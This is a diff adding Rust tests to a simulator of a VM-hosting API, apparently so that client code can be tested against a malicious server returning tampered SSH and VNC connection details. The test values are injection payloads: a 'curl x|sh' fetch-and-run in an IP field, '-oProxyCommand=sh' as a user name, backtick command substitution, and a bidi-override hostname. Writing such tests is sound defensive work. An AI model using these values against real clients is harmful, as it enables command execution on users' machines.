@@ -4,7 +4,7 @@ mod common;
 use std::time::{Duration, Instant};
 
 use common::*;
-use dbc_sim::{Fault, FaultKind, Quirks, SimConfig};
+use dbc_sim::{Fault, FaultKind, HostileConnection, Quirks, SimConfig};
 use serde_json::json;
 
 #[tokio::test]
@@ -192,6 +192,103 @@ async fn control_http_api() {
     assert_eq!(r.status, 400);
     let r = s.raw("GET", "/__sim/nothing", "").await;
     assert_eq!(r.status, 404);
+}
+
+#[tokio::test]
+async fn hostile_connection_values_replace_one_vms_details() {
+    const VM: &str = "DemoVmAlpha0000000001";
+    let s = Sim::start(SimConfig::demo().with_speed(1000.0)).await;
+    let (_, other) = s.ok_call("tasks/start", ALPHA, "1001", linux_vm("1")).await;
+    let other = other["task_id"].as_str().unwrap().to_string();
+    let (_, honest) = s
+        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
+        .await;
+    // Newlines and quotes too: the unescaped-JSON quirk (on in the demo) does not apply.
+    let ip = "1.2.3.4\n; curl x|sh \"$(id)\"";
+    s.ctl.add_fault(
+        Fault::hostile_connection(
+            VM,
+            HostileConnection {
+                ssh_ip: Some(ip.into()),
+                user_name: Some("-oProxyCommand=sh".into()),
+                vnc_port: Some("5901`id`".into()),
+                ..Default::default()
+            },
+        )
+        .times(2),
+    );
+    let (code, d) = s
+        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
+        .await;
+    assert_eq!(code, 0);
+    assert_eq!(d["ssh_ip"], ip);
+    assert_eq!(d["user_name"], "-oProxyCommand=sh");
+    assert_eq!(d["vnc_port"], "5901`id`");
+    // what was not given stays as it is
+    assert_eq!(d["ssh_port"], honest["ssh_port"]);
+    assert_eq!(d["status"], honest["status"]);
+    // other VMs and other requests are untouched
+    let (_, o) = s
+        .ok_call(&format!("tasks/{other}"), ALPHA, "1001", json!({}))
+        .await;
+    assert_eq!(o["ssh_ip"], honest["ssh_ip"]);
+    let (code, _) = s.ok_call("tasks", ALPHA, "1001", json!({})).await;
+    assert_eq!(code, 0);
+    // `times` counts the details it changed
+    let (_, d) = s
+        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
+        .await;
+    assert_eq!(d["ssh_ip"], ip);
+    let (_, d) = s
+        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
+        .await;
+    assert_eq!(d, honest);
+    assert!(s.ctl.faults().is_empty());
+
+    // Over the HTTP control API (sticky until cleared), with a Unicode bidi override.
+    let r = s
+        .raw(
+            "POST",
+            "/__sim/faults",
+            &json!({"path": format!("tasks/{VM}"), "kind": "hostile_connection",
+                    "ssh_ip": "moc.live\u{202e}1.2.3.4", "ssh_port": "22 -oX"})
+            .to_string(),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    for _ in 0..2 {
+        let (_, d) = s
+            .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
+            .await;
+        assert_eq!(d["ssh_ip"], "moc.live\u{202e}1.2.3.4");
+        assert_eq!(d["ssh_port"], "22 -oX");
+        assert_eq!(d["user_name"], honest["user_name"]);
+    }
+    let r = s.raw("GET", "/__sim/faults", "").await;
+    assert_eq!(r.json()["result"][0]["kind"], "hostile_connection");
+    s.raw("DELETE", "/__sim/faults", "").await;
+    let (_, d) = s
+        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
+        .await;
+    assert_eq!(d, honest);
+}
+
+#[test]
+fn hostile_connection_faults_load_from_toml() {
+    let cfg = SimConfig::from_toml_str(
+        "[[faults]]\npath = \"tasks/vm1\"\nkind = \"hostile_connection\"\nuser_name = \"-o\"\n",
+    )
+    .unwrap();
+    assert_eq!(
+        cfg.faults,
+        [Fault::hostile_connection(
+            "vm1",
+            HostileConnection {
+                user_name: Some("-o".into()),
+                ..Default::default()
+            }
+        )]
+    );
 }
 
 #[tokio::test]
